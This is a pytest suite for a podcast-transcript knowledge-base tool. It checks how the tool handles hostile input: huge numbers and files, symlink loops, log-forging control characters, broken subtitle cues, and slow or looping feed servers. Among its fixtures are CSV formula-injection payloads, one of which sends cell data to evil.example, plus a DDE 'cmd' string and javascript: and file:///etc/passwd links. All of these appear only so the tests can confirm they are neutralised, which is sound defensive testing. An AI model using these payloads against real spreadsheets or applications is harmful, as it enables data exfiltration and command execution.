"""Hostile and odd input: numbers, sizes, loops, control characters, malformed cues, slow or looping
servers. Each gets one line naming the file and the reason; the rest of the batch goes through."""
import json
import os
import subprocess
import sys

import pytest
from click.testing import CliRunner

from podkb import KnowledgeBase
from podkb.ingest.formats import read_text
from podkb.ui.exports import export
from podkb.quotes import Quote
from podkb.ui.cli import cli

from .conftest import FAKE_MODEL, ROOT, one_error_each, run
from .feedserver import FeedServer, rss

GOOD = "[00:00:01.000 --> 00:00:02.500]  A good transcript line.\n"
PODKB = [sys.executable, "-c", "from podkb.ui.cli import main; main()"]


# Numbers and sizes (items 5 and 9)

def test_times_outside_0_to_1000_hours_fail_their_file_alone(write, podkb):
    segment = '{{"segments": [{{"start": {}, "end": 2, "text": "hello there"}}]}}'
    bad = {
        "digits.json": (segment.format("9" * 5000), "invalid JSON"),
        "huge.json": (segment.format("1e308"), "outside 0 to 1000 hours"),
        "far.json": (segment.format("1e17"), "outside 0 to 1000 hours"),
        "words.json": ('{"segments": [{"start": 0, "end": 2, "text": "hi", '
                       '"words": [{"word": "hi", "start": 0, "end": 1e300}]}]}', "outside 0 to 1000 hours"),
        "hour.txt": ("[99999999999999999999:00:00.000 --> 99999999999999999999:00:01.000]  hello\n",
                     "outside 0 to 1000 hours"),
        "cue.srt": ("1\n99999999999999999999:00:00,000 --> 99999999999999999999:00:01,000\nhello\n",
                    "outside 0 to 1000 hours"),
    }
    paths = {name: write(name, content) for name, (content, _) in bad.items()}
    good = write("good.txt", GOOD)
    result = podkb("add", *paths.values(), good, expect=1)
    errors = one_error_each(result.stderr, {paths[name]: reason for name, (_, reason) in bad.items()})
    assert len(errors) == len(bad) and "added good" in result.stdout


def peak_rss_mb(*args) -> tuple[subprocess.CompletedProcess, float]:
    """Run podkb in a fresh process and report its peak resident memory."""
    # VmHWM is this process's own peak; ru_maxrss would count the parent's memory at the fork.
    code = ("import atexit, re, sys; atexit.register(lambda: sys.stderr.write('peak-rss-kb ' + re.search("
            "r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read())[1] + '\\n')); from podkb.ui.cli import main; main()")
    result = subprocess.run([sys.executable, "-c", code, *map(str, args)], cwd=ROOT, capture_output=True,
                            text=True, timeout=600, env=dict(os.environ, PODKB_MODEL="py:tests.fake_embedder:HashEmbedder"))
    peak = next(int(line.split()[1]) for line in result.stderr.splitlines() if line.startswith("peak-rss-kb"))
    return result, peak / 1024


def test_a_file_over_the_limit_is_refused_by_its_size_before_it_is_read(tmp_path, write):
    huge = tmp_path / "in" / "huge.txt"
    huge.parent.mkdir(exist_ok=True)
    with open(huge, "wb") as f:  # sparse: 3 GB on paper, nothing on disk
        f.truncate(3 << 30)
    good = write("good.txt", GOOD)
    result, peak = peak_rss_mb("add", huge, good, "--kb", tmp_path / "kb", "--no-index")
    assert result.returncode == 1
    assert f"error: {huge}: file is 3,072 MB; the limit is 100 MB" in result.stderr
    assert "added good" in result.stdout
    assert peak < 1024, f"peak {peak:.0f} MB: the file was read before it was refused"


def test_a_large_json_transcript_is_read_within_ten_times_its_size(tmp_path):
    """200,000 segments (about 13 MB of JSON): the import's memory, past the interpreter's, stays under 10x the file."""
    path = tmp_path / "long.json"
    segments = [{"start": i, "end": i + 0.9, "text": f"line {i} says w{i % 977} and x{i % 131}."} for i in range(200_000)]
    path.write_text(json.dumps({"segments": segments}))
    size_mb = path.stat().st_size / 2**20
    small = tmp_path / "small.json"  # the same command on a one-segment file: the interpreter and its libraries
    small.write_text(json.dumps({"segments": segments[:1]}))
    _, baseline = peak_rss_mb("add", small, "--kb", tmp_path / "empty", "--no-index")
    result, peak = peak_rss_mb("add", path, "--kb", tmp_path / "kb", "--no-index")
    assert result.returncode == 0, result.stderr
    assert peak - baseline < 10 * size_mb, f"{peak - baseline:.0f} MB for a {size_mb:.0f} MB file"


# Paths and names (items 8 and 11)

def test_a_recursive_glob_over_a_symlink_loop_visits_each_real_file_once(tmp_path, kb):
    top = tmp_path / "talks"
    (top / "loop").mkdir(parents=True)
    (top / "loop" / "self").symlink_to("../loop")
    (top / "up").symlink_to(".")
    (top / "loop" / "a.srt").write_text("1\n00:00:01,000 --> 00:00:02,000\nFirst talk.\n")
    (top / "b.srt").write_text("1\n00:00:01,000 --> 00:00:02,000\nSecond talk.\n")
    result = subprocess.run([*PODKB, "add", f"{top}/**/*.srt", "--kb", kb, "--no-index"], cwd=ROOT,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert sorted(line.split(":")[0] for line in result.stdout.splitlines()) == ["added a", "added b"]


def test_control_characters_in_names_and_titles_cannot_forge_or_split_lines(tmp_path, podkb, write):
    forged = write("evil\nerror: forged.txt", "")
    result = podkb("add", forged, write("good.txt", GOOD), "--title", "Two\nlines\r\x1b[2Jhere", expect=1)
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert errors == [f"error: {forged.parent}/evil\\x0aerror: forged.txt: empty file"]
    listing = podkb("episodes").stdout.splitlines()
    assert len(listing) == 1 and "Two\\x0alines\\x0d\\x1b[2Jhere" in listing[0]


# Cues (items 15, 16 and 17)

def test_srt_cues_with_bad_or_backwards_timings_are_counted_not_merged():
    text = ("1\n00:00:00,500 --> 00:00:02,000\nFirst.\n\n"
            "2\n-00:00:01,000 --> 00:00:02,000\nNegative.\n\n"
            "3\n00:00:03,000 --> 00:00:01,000\nBackwards.\n\n"
            "4\nNo timing at all.\n\n"
            "5\n00:00:04,000 --> 00:00:05,000\nLast.\n")
    transcript = read_text(text, ".srt")
    assert [s.text for s in transcript.segments] == ["First.", "Backwards.", "Last."]
    assert transcript.segments[1].end == transcript.segments[1].start == 3.0
    assert transcript.warnings == [
        "1 cue(s) with an unreadable timing skipped (first at line 6: '-00:00:01,000 --> 00:00:02,000')",
        "1 cue(s) without a timing line skipped (first at line 13)",
        "1 cue(s) end before they start; their end was set to their start (first at line 10)",
    ]


def test_webvtt_cues_webvtt_py_would_drop_are_reported():
    cues = "".join(f"00:00:{n:02d}.000 --> 00:00:{n:02d}.900\nCaption text #{n}\n\n" for n in (1, 3))
    transcript = read_text(f"WEBVTT\n\n{cues}00:00:04.000 --> 00:00:1d.890\nBroken timing\n\nNo timing here\n", ".vtt")
    assert [s.text for s in transcript.segments] == ["Caption text #1", "Caption text #3"]
    assert transcript.warnings == [
        "1 cue(s) with an unreadable timing skipped (first at line 9: '00:00:04.000 --> 00:00:1d.890')",
        "1 cue(s) without a timing line skipped (first at line 12)",
    ]
    from podkb.ingest import BadInput

    with pytest.raises(BadInput, match="no WebVTT cue has a readable timing: 2 unreadable .first at line 3"):
        read_text("WEBVTT\n\n000:00.000 --> 000:01.000\nOne\n\n120:00.000 --> 120:01.000\nTwo\n", ".vtt")


def test_nul_bytes_anywhere_refuse_a_text_file(write, podkb):
    late = write("late.txt", "A line of words.\n" * 1000 + "\x00 hidden\n")
    result = podkb("add", late, write("good.txt", GOOD), expect=1)
    one_error_each(result.stderr, {late: "a NUL byte at byte 17,000"})


def test_speaker_tagged_text_starting_with_a_bracket_is_text_not_json(write, podkb):
    path = write("diarised.txt", "[SPEAKER_01]: Hola, ¿qué tal?\n[SPEAKER_00]: Bien, gracias.\n[SPEAKER_01]: Me alegro.\n")
    podkb("add", path)
    shown = json.loads(podkb("show", "diarised", "--json").stdout)
    assert [(s["speaker"], s["text"]) for s in shown["segments"]] == [
        ("SPEAKER_01", "Hola, ¿qué tal?"), ("SPEAKER_00", "Bien, gracias."), ("SPEAKER_01", "Me alegro.")]
    assert shown["episode"]["format"] == "speaker-tagged"
    assert read_text("1\n00:00:01,000 --> 00:00:02,000\n[SPEAKER_02]: Hi.\n").segments[0].speaker == "SPEAKER_02"


# Dates (item 14)

@pytest.mark.parametrize("value", ["notadate", "2024-13-45", "2022-02-30", "24-01-01"])
def test_dates_that_are_not_dates_are_usage_errors(podkb, value):
    for option in ("--from", "--to"):
        result = podkb("search", "burnout", option, value, expect=2)
        assert "YYYY, YYYY-MM or YYYY-MM-DD" in result.stderr and value in result.stderr


def test_dates_with_non_ascii_digits_are_refused(quoted):
    result = run(quoted, "edit", "fastbook", "--date", "２０２１-０３-０４", expect=1)
    assert "not a date" in result.stderr
    result = run(quoted, "search", "rest", "--from", "２０２０", expect=2)
    assert "YYYY" in result.stderr


# Arguments and edits: invalid UTF-8 gets one line and is stored well formed; odd values are refused in one line

@pytest.mark.parametrize("command", [["show", "x\udcff"], ["chapters", "x\udcff"], ["remove", "x\udcff"],
                                     ["export", "x\udcff", "--format", "json"], ["quote", "list", "x\udcff"],
                                     ["feeds", "--remove", "x\udcff"]])
def test_arguments_with_invalid_utf8_get_one_line(quoted, command):
    result = CliRunner().invoke(cli, [*command, "--kb", str(quoted)], env={"PODKB_MODEL": FAKE_MODEL})
    assert result.exit_code in (0, 1) and "Traceback" not in result.output + result.stderr
    assert result.exit_code == 0 or result.stderr.count("\n") == 1, result.stderr


def test_notes_and_renames_with_invalid_utf8_are_stored_well_formed(quoted):
    run(quoted, "quote", "add", "Rest", "--episode", "fastbook", "--start", "120", "--note", "n\udcff")
    with KnowledgeBase(quoted, model=FAKE_MODEL) as base:
        assert base.collections.quotes("Rest")[-1].note == "n?"
        assert base.quote("Rest", "fastbook", 300.0, note="\ud800").note == "?"


def test_the_small_ones(quoted, tmp_path):
    assert "cannot load the model /tmp" in run(quoted, "reindex", "--model", "/tmp", expect=1).stderr
    assert "no quote 99999" in run(quoted, "quote", "remove", "99999", expect=1).stderr
    run(quoted, "edit", "fastbook", "--title", "a\nb")
    with KnowledgeBase(quoted, model=FAKE_MODEL) as base:
        assert base.episode("fastbook").title == "a b"
    assert "empty --episode or --show" in run(quoted, "speakers", "--show", "", "--rename", "Jeremy Howard=J",
                                               expect=1).stderr
    with KnowledgeBase(quoted, model=FAKE_MODEL) as base:
        before = base.speakers()
    result = run(quoted, "speakers", "--rename", "Jeremy Howard=JH", "--rename", "Nobody=N", expect=1)
    assert "nothing was renamed" in result.stderr
    with KnowledgeBase(quoted, model=FAKE_MODEL) as base:
        assert base.speakers() == before  # the first rename was not applied either



# Exports (item 10)

def test_csv_exports_neutralise_formulas_and_json_and_markdown_stay_exact():
    quote = Quote(text='=HYPERLINK("http://evil.example/?"&A1,"click")', episode_id="e", episode_title="+cmd|' /C calc'!A0",
                  show="-2+3", speaker="@SUM(A1:A2)", note="\tnote", tags=["\rtag"], start=12.0)
    import csv
    import io

    for fmt in ("csv", "readwise", "anki"):
        text = export("Evil", [quote], fmt)
        rows = list(csv.reader(io.StringIO("\n".join(l for l in text.splitlines() if not l.startswith("#")))))
        cells = [cell for row in rows for cell in row if cell]
        assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), (fmt, cells)
        # CSV: OWASP's '; Readwise and Anki, imported into an app where a ' would show: a zero-width space
        guard = "'" if fmt == "csv" else "\u200b"
        assert any(cell.startswith(guard + "=HYPERLINK(") for cell in cells), fmt
    assert json.loads(export("Evil", [quote], "json"))["quotes"][0]["text"] == quote.text
    assert "HYPERLINK" in export("Evil", [quote], "markdown") and "'=" not in export("Evil", [quote], "markdown")


# Feeds (items 7, 13, 18, 19, 20, 21)

@pytest.fixture
def server(monkeypatch):
    monkeypatch.setenv("PODKB_ALLOW_PRIVATE", "1")  # its server is on 127.0.0.1, which feeds refuse by default
    with FeedServer() as server:
        yield server


def test_a_trickling_feed_and_enclosure_stop_at_the_timeout_and_leave_no_part_file(server, podkb, kb):
    slow_feed = server.serve("/slow.xml", rss("Slow", []) + " " * 10_000, trickle=0.05)
    result = podkb("feed", slow_feed, "--timeout", "1", expect=1)
    one_error_each(result.stderr, {slow_feed: "timed out"})
    item = {"title": "Drip", "guid": "d1", "enclosure": (server.url + "/drip.mp3", "audio/mpeg", 0)}
    server.serve("/drip.mp3", b"\xff\xfb" + bytes(100_000), trickle=0.05)
    feed_url = server.serve("/feed.xml", rss("Drip", [item]))
    result = podkb("feed", feed_url, "--timeout", "1", "--no-index", expect=1)
    assert "error: Drip <" in result.stderr and "timed out" in result.stderr
    assert not list((kb / "media").glob("*")), "a partial download was left behind"


def test_a_redirect_loop_is_called_too_many_redirects(server, podkb):
    url = server.serve("/forever", status=302, headers={"Location": "/forever"})
    result = podkb("feed", url, expect=1)
    one_error_each(result.stderr, {url: "too many redirects"})


def test_the_audio_enclosure_is_chosen_when_an_image_comes_first(server):
    from podkb.ingest.feeds import parse_feed

    xml = rss("Covers", [{"title": "One", "guid": "g1"}]).replace(
        "</item>", f'<enclosure url="{server.url}/cover.jpg" type="image/jpeg" length="10"/>'
                   f'<enclosure url="{server.url}/one.mp3" type="audio/mpeg" length="20"/></item>')
    [item] = parse_feed(xml.encode(), server.url + "/feed.xml").items
    assert (item.enclosure, item.enclosure_type) == (server.url + "/one.mp3", "audio/mpeg")


def test_a_failed_transcript_is_reported_when_the_enclosure_fails_too(server, podkb):
    item = {"title": "Both gone", "guid": "g1", "enclosure": (server.url + "/gone.mp3", "audio/mpeg", 10),
            "transcripts": [(server.url + "/gone.vtt", "text/vtt")]}
    result = podkb("feed", server.serve("/feed.xml", rss("Gone", [item])), expect=1)
    lines = [line for line in result.stderr.splitlines() if line.startswith(("warning:", "error:"))]
    assert len(lines) == 2, result.stderr
    assert lines[0].startswith("warning: Both gone <") and "gone.vtt: HTTP 404" in lines[0]
    assert lines[1].startswith("error: Both gone <") and "HTTP 404" in lines[1]


@pytest.mark.slow
def test_library_logging_stays_off_stderr_unless_verbose_and_no_model_loads_without_new_episodes(server, tmp_path):
    xml = rss("Quiet", [{"title": "Has transcript", "guid": "q1", "transcripts": [(server.url + "/q1.srt", "application/srt")]}])
    xml = xml.replace('xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" ', "")  # as some real feeds do
    feed_url = server.serve("/feed.xml", xml.replace("<channel>", "<channel><itunes:author>Someone</itunes:author>"))
    server.serve("/q1.srt", "1\n00:00:01,000 --> 00:00:02,000\nPractise a little every day, and rest.\n")
    kb, env = tmp_path / "kb", {k: v for k, v in os.environ.items() if k != "PODKB_MODEL"}  # the real default model
    code = "import atexit, sys; atexit.register(lambda: print('loaded' if 'sentence_transformers' in sys.modules " \
           "else 'not loaded', file=sys.stderr)); from podkb.ui.cli import main; main()"
    first = subprocess.run([sys.executable, "-c", code, "feed", feed_url, "--kb", kb], cwd=ROOT, env=env,
                           capture_output=True, text=True, timeout=300)
    assert first.returncode == 0, first.stderr
    assert "No namespace defined" not in first.stderr
    again = subprocess.run([sys.executable, "-c", code, "-v", "feed", "--kb", kb], cwd=ROOT, env=env,
                           capture_output=True, text=True, timeout=300)
    assert "note: podcastparser: No namespace defined" in again.stderr
    assert again.stderr.strip().endswith("not loaded"), again.stderr


def test_a_manifests_javascript_or_file_source_never_becomes_a_link(tmp_path, podkb, kb):
    folder = tmp_path / "talks"
    folder.mkdir()
    (folder / "a.srt").write_text("1\n00:00:05,000 --> 00:00:09,000\nSleep well before an exam, always.\n")
    (folder / "b.srt").write_text("1\n00:00:05,000 --> 00:00:09,000\nSleep badly and you forget the exam.\n")
    (folder / "manifest.toml").write_text('[[episode]]\nfile = "a.srt"\nsource = "javascript:alert(2)"\n\n'
                                          '[[episode]]\nfile = "b.srt"\nsource = "file:///etc/passwd"\n')
    podkb("add", folder)
    hits = json.loads(podkb("search", "sleep before an exam", "--json").stdout)
    assert len(hits) == 2 and all(h["link"] is None for h in hits)
    shown = podkb("search", "sleep before an exam").stdout
    assert "javascript:" not in shown and "file:" not in shown and "▶" not in shown
    answer = json.loads(podkb("ask", "sleep before an exam", "--json").stdout)
    assert all(p["link"] is None for p in answer["points"])
    with KnowledgeBase(kb) as base:
        from podkb.ui.mcp_server import build

        listed = build(base)._tool_manager.get_tool("episodes").fn()
        assert [e["source"] for e in listed] == [None, None]
